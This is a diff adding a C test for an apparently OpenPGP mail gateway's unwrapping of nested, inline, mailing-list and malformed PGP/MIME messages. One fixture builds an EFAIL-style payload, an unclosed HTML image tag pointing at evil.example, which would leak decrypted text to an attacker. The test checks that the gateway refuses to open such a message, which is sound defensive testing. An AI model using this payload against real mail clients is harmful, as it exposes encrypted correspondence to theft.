@@ -174,6 +174,99 @@ static void test_signed(sg_buf *m)
     sg_unwrap_result_free(&u);
 }
 
+/* Layers below the top and inline blocks inside text (step 3 of issue 3). */
+static void test_nested(const char *alice, const char *bob)
+{
+    char to[1][SG_PGP_FPR_LEN + 1], err[200], *arm = NULL;
+    size_t alen = 0;
+    memcpy(to[0], bob, SG_PGP_FPR_LEN + 1);
+    const char secret[] = "the inline secret\r\n";
+    int ok = sg_pgpmime_encrypt(sg_engine_pgp_keys(), alice, to, 1, secret, sizeof secret - 1, &arm, &alen, err,
+                                sizeof err) == 0;
+    sg_buf m, b;
+    sg_buf_init(&m, SG_MIME_MAX_OUT);
+    sg_buf_init(&b, SG_MIME_MAX_OUT);
+    sg_unwrap_result u;
+
+    /* An armored block inside other text: kept as it is, the plaintext beside it. */
+    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: partly\r\n"
+                       "Content-Type: text/plain; charset=utf-8\r\n\r\nLook at this:\r\n\r\n%.*s\r\nregards\r\n",
+                   (int)alen, arm ? arm : "");
+    const char *orig_body = body(m.data);
+    int rc = ok ? unwrap(m.data, m.len, 8, &u) : -1;
+    CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
+              strcmp(u.reader.dec_reason, "armored-blocks-in-text") == 0 &&
+              strstr(u.reader_msg, "X-Sealgate-Decryption: partial; reason=armored-blocks-in-text\r\n") &&
+              strstr(u.reader_msg, "Content-Type: multipart/mixed") && strstr(u.reader_msg, orig_body) &&
+              strstr(u.reader_msg, "filename=decrypted-1.txt") && strstr(u.reader_msg, "\r\n\r\nthe inline secret\r\n"),
+          "inline block inside text: text kept byte for byte, plaintext as attachment decrypted-1.txt, partial");
+    CHECK(rc == 0 && u.reader.sig.sig == SG_SIG_INVALID && strcmp(u.reader.sig.reason, "not-whole-message") == 0 &&
+              strcmp(u.reader.sig.signer, alice) == 0,
+          "inline block inside text: its good signature does not count for the message (not-whole-message)");
+    if (rc == 0)
+        sg_unwrap_result_free(&u);
+
+    /* A mailing list: multipart/mixed around multipart/encrypted and a footer. */
+    const char inner_msg[] = "From: alice@example.net\r\nTo: list@demo.test\r\nSubject: s\r\n"
+                             "Content-Type: text/plain\r\n\r\nlist secret\r\n";
+    rc = protect(inner_msg, sizeof inner_msg - 1, SG_SIGN_SENDER, "bob@demo.test", &b);
+    const char *ct = rc == 0 ? strstr(b.data, "Content-Type: multipart/encrypted") : NULL;
+    const char footer[] = "--L\r\nContent-Type: text/plain\r\n\r\n-- \r\nlist footer\r\n--L--\r\n";
+    sg_buf_reset(&m);
+    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: list@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
+                       "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\n%s\r\n%s",
+                   ct ? ct : "", footer);
+    rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
+    CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
+              strcmp(u.reader.dec_reason, "embedded-part") == 0 && strstr(u.reader_msg, "\r\n\r\nlist secret\r\n\r\n--L\r\n") &&
+              strstr(u.reader_msg, footer) && !strstr(u.reader_msg, "multipart/encrypted") &&
+              strstr(u.reader_msg, "boundary=\"L\""),
+          "mailing list: the encrypted part opened in its place, footer byte for byte, partial");
+    CHECK(rc == 0 && u.reader.sig.sig == SG_SIG_INVALID && strcmp(u.reader.sig.reason, "not-whole-message") == 0 &&
+              u.other_msg && strstr(u.other_msg, "X-Sealgate-Decryption: none; reason=no-key") && !u.readable[1],
+          "mailing list: the part's signature not counted; carl gets it closed");
+    if (rc == 0)
+        sg_unwrap_result_free(&u);
+
+    /* "Mixed-up" PGP/MIME (MS Exchange, ProtonMail): repaired only behind a placeholder. */
+    const char *arm2 = ct ? strstr(ct, "-----BEGIN PGP MESSAGE-----") : NULL;
+    const char *arm2end = arm2 ? strstr(arm2, "-----END PGP MESSAGE-----") : NULL;
+    for (int words = 0; words < 2; words++) {
+        sg_buf_reset(&m);
+        sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
+                           "Content-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/plain\r\n\r\n%s\r\n"
+                           "--X\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--X\r\n"
+                           "Content-Type: application/octet-stream\r\n\r\n%.*s-----END PGP MESSAGE-----\r\n\r\n--X--\r\n",
+                       words ? "Please read the attachment." : "",
+                       arm2end ? (int)(arm2end - arm2) : 0, arm2 ? arm2 : "");
+        rc = arm2end ? unwrap(m.data, m.len, 8, &u) : -1;
+        if (words)
+            CHECK(rc == 0 && u.unchanged && !u.readable[0], "mixed-up PGP/MIME with words in its text part: not repaired");
+        else
+            CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_FULL &&
+                      strcmp(body(u.reader_msg), "list secret\r\n") == 0,
+                  "mixed-up PGP/MIME behind an empty text part: decrypted, the whole body replaced");
+        if (rc == 0)
+            sg_unwrap_result_free(&u);
+    }
+
+    /* The same with an attacker's HTML part before it (rc-openpgp-mixed-subpart): closed. */
+    sg_buf_reset(&m);
+    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
+                       "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\nContent-Type: text/html\r\n\r\n"
+                       "<img src=\"http://evil.example/?\r\n--L\r\n%s\r\n%s",
+                   ct ? ct : "", footer);
+    rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
+    CHECK(rc == 0 && !u.readable[0] && !u.reader_msg && u.other_msg && strcmp(body(u.other_msg), body(m.data)) == 0 &&
+              strstr(u.other_msg, "X-Sealgate-Decryption: none; reason=unsafe-mime-structure"),
+          "encrypted part beside HTML: not opened, body unchanged, reason unsafe-mime-structure");
+    if (rc == 0)
+        sg_unwrap_result_free(&u);
+    free(arm);
+    sg_buf_free(&m);
+    sg_buf_free(&b);
+}
+
 int main(void)
 {
     static pgp_fixture f;
@@ -191,6 +284,7 @@ int main(void)
     test_plain();
     test_encrypted(alice, &m);
     test_signed(&m);
+    test_nested(alice, bob);
     sg_buf_free(&m);
     if (fixture_close(&f) < 0)
         return 1;
